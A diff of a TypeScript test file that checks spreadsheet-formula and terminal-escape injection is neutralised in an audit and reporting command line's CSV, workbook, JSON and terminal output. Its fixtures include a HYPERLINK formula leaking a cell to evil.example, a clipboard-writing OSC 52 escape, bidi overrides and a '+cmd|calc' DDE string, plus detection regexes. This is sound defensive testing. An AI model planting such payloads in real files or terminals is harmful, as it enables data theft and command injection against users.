@@ -1,7 +1,9 @@
 // Issue 15 through the real command line, a real worker and a real dev server: actors, reasons, notes and unit
-// names that are spreadsheet formulas or terminal escape sequences. The audit CSV, the report CSV and the
-// workbook neutralise every formula-like text cell; status, audit and report text reach the terminal without
-// control characters; the JSON stays exact (escaped, never stripped).
+// names that are spreadsheet formulas or terminal escape sequences. The command line cleans typed text before
+// sending it (escape sequences and control characters removed: core/text/typed.ts; the workflows would refuse
+// them), so what is recorded is the clean text, formulas included. The audit CSV, the report CSV and the workbook
+// neutralise every formula-like text cell; status, audit and report text reach the terminal without control
+// characters; the JSON stays exact (escaped, never stripped).
 import { readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { parse as parseCsv } from 'csv-parse/sync';
@@ -18,6 +20,9 @@ const LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
 const OSC52 = '\x1b]52;c;ZWNobyBwd25lZA==\x07';
 const ACTOR_ESC = `@SUM(1)${OSC52}\u202Egnol\u202C\x9b2J`;
 const REASON = 'lý do\r\n\x1b[2J\x07giả mạo';
+/** What the command line sends of them: whole escape sequences, bidi and control characters gone. */
+const ACTOR_CLEAN = '@SUM(1)gnol';
+const REASON_CLEAN = 'lý do\ngiả mạo';
 const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
 /** What must never reach a terminal: C0 but space, DEL, C1, bidi and line separators, OSC payloads. */
 // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is looked for
@@ -76,18 +81,18 @@ it('neutralises every formula-like cell of the audit CSV', async () => {
     note: `'+cmd|calc`,
   });
   expect(submitted.find((r) => r.unitId === 'tan-yen')).toMatchObject({
-    actor: `'${ACTOR_ESC}`,
+    actor: `'${ACTOR_CLEAN}`,
     note: `'-2+3`,
   });
-  expect(rows.find((r) => r.kind === 'waived')).toMatchObject({ actor: `'-x`, reason: REASON });
+  expect(rows.find((r) => r.kind === 'waived')).toMatchObject({ actor: `'-x`, reason: REASON_CLEAN });
   expect(rows.find((r) => r.kind === 'campaign-started')).toMatchObject({ actor: `'${LINK}` });
 }, 120_000);
 
 it('keeps the audit JSON exact', async () => {
   const trail = await h.json<AuditTrail>(0, 'audit', campaignId);
   const submitted = trail.entries.filter((e) => e.kind === 'submitted');
-  expect(submitted.find((e) => e.unitId === 'tan-yen')).toMatchObject({ actor: ACTOR_ESC, note: '-2+3' });
-  expect(trail.entries.find((e) => e.kind === 'waived')).toMatchObject({ actor: '-x', reason: REASON });
+  expect(submitted.find((e) => e.unitId === 'tan-yen')).toMatchObject({ actor: ACTOR_CLEAN, note: '-2+3' });
+  expect(trail.entries.find((e) => e.kind === 'waived')).toMatchObject({ actor: '-x', reason: REASON_CLEAN });
   const raw = (await h.cli('audit', campaignId, '--json')).out;
   // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is looked for
   expect(raw).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]/);
@@ -97,7 +102,7 @@ it('prints the audit, status and report text without control characters', async 
   const audit = await ok('audit', campaignId);
   expectPrintable(audit);
   expect(audit).toContain('bởi @SUM(1)gnol');
-  expect(audit).toContain('Miễn ke-hoach bởi -x: lý do  giả mạo');
+  expect(audit).toContain('Miễn ke-hoach bởi -x: lý do giả mạo');
 
   const status = await ok('status', campaignId);
   expectPrintable(status);
@@ -105,7 +110,7 @@ it('prints the audit, status and report text without control characters', async 
   expect(status).toContain('=1+2 Sở Nội vụ [so-noi-vu]');
   const json = await h.json<StatusResult>(0, 'status', campaignId);
   const tanYen = find(json.root, 'tan-yen')?.milestones.find((m) => m.id === 'ke-hoach');
-  expect(tanYen?.submittedBy).toBe(ACTOR_ESC);
+  expect(tanYen?.submittedBy).toBe(ACTOR_CLEAN);
 
   expectPrintable(await ok('report', campaignId, '--out', path.join(h.dir, 'bao-cao-text.xlsx')));
 }, 120_000);
